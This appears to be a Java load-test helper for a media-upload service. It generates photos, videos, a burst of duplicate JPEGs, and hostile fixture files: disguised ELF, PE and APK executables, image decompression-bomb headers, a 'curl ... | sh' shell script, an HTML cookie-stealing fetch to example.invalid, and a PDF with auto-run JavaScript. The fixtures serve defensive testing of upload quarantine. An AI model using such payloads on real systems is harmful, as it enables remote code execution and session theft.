package com.mediaflow.infra.load;

import com.mediaflow.testkit.SyntheticMedia;
import java.io.ByteArrayOutputStream;
import java.io.IOException;
import java.io.OutputStream;
import java.io.UncheckedIOException;
import java.nio.ByteBuffer;
import java.nio.charset.StandardCharsets;
import java.nio.file.Files;
import java.nio.file.Path;
import java.util.ArrayList;
import java.util.Collections;
import java.util.List;
import java.util.Locale;
import java.util.Random;
import java.util.SplittableRandom;
import java.util.concurrent.ExecutionException;
import java.util.concurrent.ExecutorService;
import java.util.concurrent.Executors;
import java.util.concurrent.Future;
import java.util.stream.Stream;
import java.util.zip.CRC32;
import java.util.zip.ZipEntry;
import java.util.zip.ZipOutputStream;

/**
 * The uploads of a load run, made deterministically from a seed: photo-like JPEGs and PNGs
 * ({@link PhotoLike}), one large JPEG that a burst of uploads sends at the same moment, hostile
 * files, and short videos ({@link SyntheticMedia#mp4}). Files are written once into a folder and
 * reused when they are there already (same seed, same spec, same bytes).
 *
 * @param items in the order the client sends them (shuffled from the seed), burst items last
 */
public record LoadMix(List<Item> items, Spec spec, long seed) {

    /** What an upload is, for the report. */
    public enum Kind { PHOTO, BURST, HOSTILE, VIDEO }

    /**
     * One upload: the ingest key it goes to, its file, and the Content-Type a client sends for its
     * extension (as {@code aws s3 cp} does).
     */
    public record Item(String key, Path file, String contentType, Kind kind) {
    }

    /**
     * How many uploads of each kind, and how big.
     *
     * @param photos JPEGs and PNGs (one in four a PNG), each of {@code minPixels} to {@code maxPixels}
     * @param burst identical JPEGs of {@code burstWidth x burstHeight}, released at the same moment
     * @param hostile files that must be quarantined (or at worst fail), never crash anything
     * @param videos H.264/AAC MP4s of {@code videoWidth x videoHeight}, 2 to {@code videoMaxSeconds} s
     */
    public record Spec(int photos, int minPixels, int maxPixels, int burst, int burstWidth, int burstHeight, int hostile,
                       int videos, int videoWidth, int videoHeight, double videoMaxSeconds) {
        /**
         * The benchmark's mix, scaled to {@code uploads} (1,000: 900 photos of 0.3-2 MP, 50 identical
         * 12 MP JPEGs, 40 hostile files, 10 videos of 2-5 s at 360p).
         */
        public static Spec bench(int uploads) {
            int burst = Math.max(2, Math.round(uploads * 0.05f));
            int hostile = Math.max(1, Math.round(uploads * 0.04f));
            int videos = Math.max(1, Math.round(uploads * 0.01f));
            int photos = Math.max(0, uploads - burst - hostile - videos);
            return new Spec(photos, 300_000, 2_000_000, burst, 4000, 3000, hostile, videos, 640, 360, 5.0);
        }

        /** The integration test's mix: {@code uploads} in all, small pictures, 10 duplicates, 2 short videos. */
        public static Spec small(int uploads) {
            int burst = 10;
            int hostile = 8;
            int videos = 2;
            return new Spec(uploads - burst - hostile - videos, 20_000, 120_000, burst, 1200, 900, hostile, videos, 320, 180,
                    2.5);
        }

        public int uploads() {
            return photos + burst + hostile + videos;
        }

        String tag() {
            return photos + "p" + minPixels + "-" + maxPixels + "_" + burst + "b" + burstWidth + "x" + burstHeight + "_" + hostile
                    + "h_" + videos + "v" + videoWidth + "x" + videoHeight + "-" + videoMaxSeconds;
        }
    }

    public List<Item> of(Kind kind) {
        return items.stream().filter(i -> i.kind() == kind).toList();
    }

    public long bytes() {
        long n = 0;
        for (Item i : items) {
            try {
                n += Files.size(i.file());
            } catch (IOException e) {
                throw new UncheckedIOException(e);
            }
        }
        return n;
    }

    /**
     * Makes (or finds) the files in {@code dir}/{@code <seed>-<spec>}.
     *
     * @param corpus the repository's corpus/ folder: its broken PngSuite files ({@code png/x*.png})
     *     are among the hostile ones; null or missing means the hostile files are all generated
     * @param threads files made at once
     */
    public static LoadMix make(Path dir, Spec spec, long seed, Path corpus, int threads) throws IOException, InterruptedException {
        Path set = dir.resolve(seed + "-" + spec.tag());
        Files.createDirectories(set);
        SplittableRandom rnd = new SplittableRandom(seed);
        List<Item> items = new ArrayList<>();
        List<Job> jobs = new ArrayList<>();
        double[] aspects = {4 / 3.0, 3 / 2.0, 16 / 9.0, 3 / 4.0, 2 / 3.0, 1.0};
        for (int i = 0; i < spec.photos(); i++) {
            double pixels = spec.minPixels() + rnd.nextDouble() * (spec.maxPixels() - spec.minPixels());
            double aspect = aspects[rnd.nextInt(aspects.length)];
            int w = Math.max(16, (int) Math.round(Math.sqrt(pixels * aspect)));
            int h = Math.max(16, (int) Math.round(pixels / w));
            boolean png = rnd.nextInt(4) == 0;
            long s = rnd.nextLong();
            Path f = set.resolve(String.format(Locale.ROOT, "photo-%04d-%dx%d.%s", i, w, h, png ? "png" : "jpg"));
            items.add(new Item("load/photos/" + f.getFileName(), f, png ? "image/png" : "image/jpeg", Kind.PHOTO));
            jobs.add(new Job(f, out -> {
                if (png) {
                    PhotoLike.png(out, w, h, s);
                } else {
                    PhotoLike.jpeg(out, w, h, s);
                }
            }));
        }
        List<Item> videos = new ArrayList<>();
        for (int i = 0; i < spec.videos(); i++) {
            // distinct lengths, so distinct bytes
            double seconds = 2.0 + (spec.videoMaxSeconds() - 2.0) * (spec.videos() == 1 ? 0.5 : i / (double) (spec.videos() - 1));
            Path f = set.resolve(String.format(Locale.ROOT, "video-%02d-%.2fs.mp4", i, seconds));
            videos.add(new Item("load/videos/" + f.getFileName(), f, "video/mp4", Kind.VIDEO));
            jobs.add(new Job(f, out -> SyntheticMedia.mp4(out, spec.videoWidth(), spec.videoHeight(), seconds, 25, true, 0)));
        }
        items.addAll(videos);
        Path burstFile = set.resolve("burst-" + spec.burstWidth() + "x" + spec.burstHeight() + ".jpg");
        long burstSeed = rnd.nextLong();
        jobs.add(new Job(burstFile, out -> PhotoLike.jpeg(out, spec.burstWidth(), spec.burstHeight(), burstSeed)));
        if (spec.videos() > 0) {
            // FFmpeg's natives and presets loaded once, here, not by two pool threads at the same moment
            com.mediaflow.shared.codec.FfmpegSupport.init();
        }
        run(jobs, threads);
        items.addAll(Hostile.make(set.resolve("hostile"), spec.hostile(), rnd.nextLong(), corpus));
        Collections.shuffle(items, new Random(rnd.nextLong()));
        for (int i = 0; i < spec.burst(); i++) {
            items.add(new Item(String.format(Locale.ROOT, "load/burst/%03d.jpg", i), burstFile, "image/jpeg", Kind.BURST));
        }
        return new LoadMix(List.copyOf(items), spec, seed);
    }

    private interface Maker {
        void make(Path out) throws IOException;
    }

    private record Job(Path file, Maker maker) {
    }

    private static void run(List<Job> jobs, int threads) throws IOException, InterruptedException {
        ExecutorService pool = Executors.newFixedThreadPool(Math.max(1, threads));
        try {
            List<Future<?>> done = new ArrayList<>();
            for (Job job : jobs) {
                if (Files.isRegularFile(job.file()) && Files.size(job.file()) > 0) {
                    continue;
                }
                done.add(pool.submit(() -> {
                    // written under another name, then renamed: an interrupted run leaves no half file to reuse
                    Path tmp = job.file().resolveSibling("part-" + job.file().getFileName());
                    job.maker().make(tmp);
                    Files.move(tmp, job.file(), java.nio.file.StandardCopyOption.REPLACE_EXISTING);
                    return null;
                }));
            }
            for (Future<?> f : done) {
                try {
                    f.get();
                } catch (ExecutionException e) {
                    if (e.getCause() instanceof IOException io) {
                        throw io;
                    }
                    throw new IllegalStateException("making a load file failed: " + e.getCause(), e.getCause());
                }
            }
        } finally {
            pool.shutdownNow();
        }
    }

    /** Hostile uploads: broken, disguised or oversized files, each of its own bytes. */
    static final class Hostile {
        private Hostile() {
        }

        static List<Item> make(Path dir, int count, long seed, Path corpus) throws IOException {
            Files.createDirectories(dir);
            List<Item> items = new ArrayList<>();
            List<Path> pngSuite = new ArrayList<>();
            Path suite = corpus == null ? null : corpus.resolve("pngsuite").resolve("png");
            if (suite != null && Files.isDirectory(suite)) {
                try (Stream<Path> s = Files.list(suite)) {
                    s.filter(p -> p.getFileName().toString().matches("x.*\\.png")).sorted().forEach(pngSuite::add);
                }
            }
            // about a third from the corpus (PngSuite's broken files), the rest generated
            int fromCorpus = Math.min(pngSuite.size(), count / 3);
            for (int i = 0; i < fromCorpus; i++) {
                Path f = pngSuite.get(i);
                items.add(new Item("load/hostile/" + i + "-pngsuite-" + f.getFileName(), f, "image/png", Kind.HOSTILE));
            }
            SplittableRandom rnd = new SplittableRandom(seed);
            Generated[] kinds = Generated.values();
            for (int i = fromCorpus; i < count; i++) {
                Generated kind = kinds[(i - fromCorpus) % kinds.length];
                Path f = dir.resolve(i + "-" + kind.fileName);
                if (!Files.isRegularFile(f)) {
                    Files.write(f, kind.bytes(i, rnd.split()));
                }
                items.add(new Item("load/hostile/" + f.getFileName(), f, contentType(kind.fileName), Kind.HOSTILE));
            }
            return items;
        }

        static String contentType(String name) {
            String n = name.toLowerCase(Locale.ROOT);
            if (n.endsWith(".jpg")) {
                return "image/jpeg";
            }
            if (n.endsWith(".png")) {
                return "image/png";
            }
            if (n.endsWith(".gif")) {
                return "image/gif";
            }
            if (n.endsWith(".mp4")) {
                return "video/mp4";
            }
            return "application/octet-stream";
        }

        /** Generated hostile files; {@code n} makes each one's bytes its own. */
        enum Generated {
            TRUNCATED_JPEG("truncated-photo.jpg"),
            ELF_AS_PNG("elf-executable.png"),
            APK_AS_JPG("android-apk.jpg"),
            GIF_ZERO_SIZE_FRAMES("gif-zero-size-frames.gif"),
            PNG_AS_JPG("png-bytes-named.jpg"),
            PNG_BOMB_HEADER("png-65535x65535-header.png"),
            JPEG_BOMB_HEADER("jpeg-65000x65000-sof.jpg"),
            PE_AS_GIF("windows-exe.gif"),
            SHELL_AS_MP4("shell-script.mp4"),
            HTML_AS_JPG("html-script.jpg"),
            RANDOM_AS_MP4("random-bytes.mp4"),
            TRUNCATED_PNG("truncated-photo.png"),
            PDF_JS_AS_JPG("pdf-javascript.jpg");

            final String fileName;

            Generated(String fileName) {
                this.fileName = fileName;
            }

            byte[] bytes(int n, SplittableRandom rnd) throws IOException {
                return switch (this) {
                    case TRUNCATED_JPEG -> {
                        byte[] jpeg = smallJpeg(n);
                        yield java.util.Arrays.copyOf(jpeg, jpeg.length * 2 / 5);
                    }
                    case TRUNCATED_PNG -> {
                        byte[] png = smallPng(n);
                        yield java.util.Arrays.copyOf(png, png.length / 2);
                    }
                    case ELF_AS_PNG -> withHeader(new byte[] {0x7F, 'E', 'L', 'F', 2, 1, 1, 0}, 4096, rnd);
                    case PE_AS_GIF -> {
                        byte[] b = withHeader(new byte[] {'M', 'Z', (byte) 0x90, 0}, 4096, rnd);
                        // e_lfanew at 0x3C pointing at a "PE\0\0" signature
                        ByteBuffer.wrap(b).order(java.nio.ByteOrder.LITTLE_ENDIAN).putInt(0x3C, 0x80);
                        b[0x80] = 'P';
                        b[0x81] = 'E';
                        b[0x82] = 0;
                        b[0x83] = 0;
                        yield b;
                    }
                    case APK_AS_JPG -> {
                        ByteArrayOutputStream bytes = new ByteArrayOutputStream();
                        try (ZipOutputStream zip = new ZipOutputStream(bytes)) {
                            zip.putNextEntry(new ZipEntry("AndroidManifest.xml"));
                            zip.write(("<manifest package=\"com.example.load" + n + "\"/>").getBytes(StandardCharsets.UTF_8));
                            zip.closeEntry();
                            zip.putNextEntry(new ZipEntry("classes.dex"));
                            zip.write(withHeader("dex\n035\0".getBytes(StandardCharsets.US_ASCII), 512, rnd));
                            zip.closeEntry();
                        }
                        yield bytes.toByteArray();
                    }
                    case GIF_ZERO_SIZE_FRAMES -> gifWithZeroSizeFrames(3 + n % 5);
                    case PNG_AS_JPG -> smallPng(n);
                    case PNG_BOMB_HEADER -> pngHeaderOnly(65535, 65535, n);
                    case JPEG_BOMB_HEADER -> jpegWithSize(smallJpeg(n), 65000, 65000);
                    case SHELL_AS_MP4 -> ("#!/bin/sh\n# load test upload " + n + "\ncurl -s http://example.invalid/x | sh\n")
                            .getBytes(StandardCharsets.UTF_8);
                    case HTML_AS_JPG -> ("<!DOCTYPE html><html><body><script>fetch('//example.invalid/" + n
                            + "?c='+document.cookie)</script></body></html>\n").getBytes(StandardCharsets.UTF_8);
                    case RANDOM_AS_MP4 -> withHeader(new byte[0], 8192 + n, rnd);
                    case PDF_JS_AS_JPG -> ("%PDF-1.4\n1 0 obj << /Type /Catalog /Pages 2 0 R /OpenAction 3 0 R >> endobj\n"
                            + "2 0 obj << /Type /Pages /Kids [] /Count 0 >> endobj\n"
                            + "3 0 obj << /S /JavaScript /JS (app.alert\\(" + n + "\\)) >> endobj\n"
                            + "trailer << /Root 1 0 R >>\n%%EOF\n").getBytes(StandardCharsets.US_ASCII);
                };
            }
        }

        private static byte[] withHeader(byte[] header, int size, SplittableRandom rnd) {
            byte[] b = new byte[Math.max(size, header.length)];
            for (int i = header.length; i < b.length; i++) {
                b[i] = (byte) rnd.nextInt(256);
            }
            System.arraycopy(header, 0, b, 0, header.length);
            return b;
        }

        private static byte[] smallJpeg(int n) throws IOException {
            Path tmp = Files.createTempFile("load-hostile-", ".jpg");
            try {
                PhotoLike.jpeg(tmp, 320 + 2 * n, 240, n);
                return Files.readAllBytes(tmp);
            } finally {
                Files.deleteIfExists(tmp);
            }
        }

        private static byte[] smallPng(int n) throws IOException {
            Path tmp = Files.createTempFile("load-hostile-", ".png");
            try {
                PhotoLike.png(tmp, 200 + 2 * n, 150, n);
                return Files.readAllBytes(tmp);
            } finally {
                Files.deleteIfExists(tmp);
            }
        }

        /** A JPEG whose first SOFn segment declares {@code w x h}; the scan stays the small one. */
        private static byte[] jpegWithSize(byte[] jpeg, int w, int h) {
            for (int i = 2; i + 9 < jpeg.length; i++) {
                int m = jpeg[i + 1] & 0xFF;
                if ((jpeg[i] & 0xFF) == 0xFF && m >= 0xC0 && m <= 0xC2) {
                    jpeg[i + 5] = (byte) (h >> 8);
                    jpeg[i + 6] = (byte) h;
                    jpeg[i + 7] = (byte) (w >> 8);
                    jpeg[i + 8] = (byte) w;
                    return jpeg;
                }
            }
            throw new IllegalStateException("the JDK's JPEG has no SOF0-2 segment; expected one");
        }

        /** Signature, IHDR of {@code w x h} RGB, a tiny IDAT, IEND: a decompression bomb's header. */
        private static byte[] pngHeaderOnly(int w, int h, int n) throws IOException {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.write(new byte[] {(byte) 0x89, 'P', 'N', 'G', '\r', '\n', 0x1A, '\n'});
            ByteBuffer ihdr = ByteBuffer.allocate(13).putInt(w).putInt(h).put((byte) 8).put((byte) 2).put((byte) 0)
                    .put((byte) 0).put((byte) 0);
            chunk(out, "IHDR", ihdr.array());
            ByteArrayOutputStream idat = new ByteArrayOutputStream();
            try (var z = new java.util.zip.DeflaterOutputStream(idat)) {
                z.write(new byte[64 * 1024 + n]); // zeros: compresses to almost nothing
            }
            chunk(out, "IDAT", idat.toByteArray());
            chunk(out, "IEND", new byte[0]);
            return out.toByteArray();
        }

        private static void chunk(OutputStream out, String type, byte[] data) throws IOException {
            byte[] t = type.getBytes(StandardCharsets.US_ASCII);
            out.write(ByteBuffer.allocate(4).putInt(data.length).array());
            out.write(t);
            out.write(data);
            CRC32 crc = new CRC32();
            crc.update(t);
            crc.update(data);
            out.write(ByteBuffer.allocate(4).putInt((int) crc.getValue()).array());
        }

        /** GIF89a, a 16x16 screen, then {@code frames} image descriptors of 0x0 pixels each. */
        private static byte[] gifWithZeroSizeFrames(int frames) {
            ByteArrayOutputStream out = new ByteArrayOutputStream();
            out.writeBytes("GIF89a".getBytes(StandardCharsets.US_ASCII));
            out.writeBytes(new byte[] {16, 0, 16, 0, (byte) 0x80, 0, 0}); // screen, global colour table of 2
            out.writeBytes(new byte[] {0, 0, 0, (byte) 0xFF, (byte) 0xFF, (byte) 0xFF});
            for (int f = 0; f < frames; f++) {
                out.writeBytes(new byte[] {0x21, (byte) 0xF9, 4, 0, 10, 0, 0, 0}); // graphic control: 100 ms
                out.writeBytes(new byte[] {0x2C, 0, 0, 0, 0, 0, 0, 0, 0, 0}); // image descriptor: 0x0 at 0,0
                out.writeBytes(new byte[] {2, 2, 0x44, 0x01, 0}); // LZW minimum code size 2, one sub-block, end
            }
            out.write(0x3B);
            return out.toByteArray();
        }
    }
}
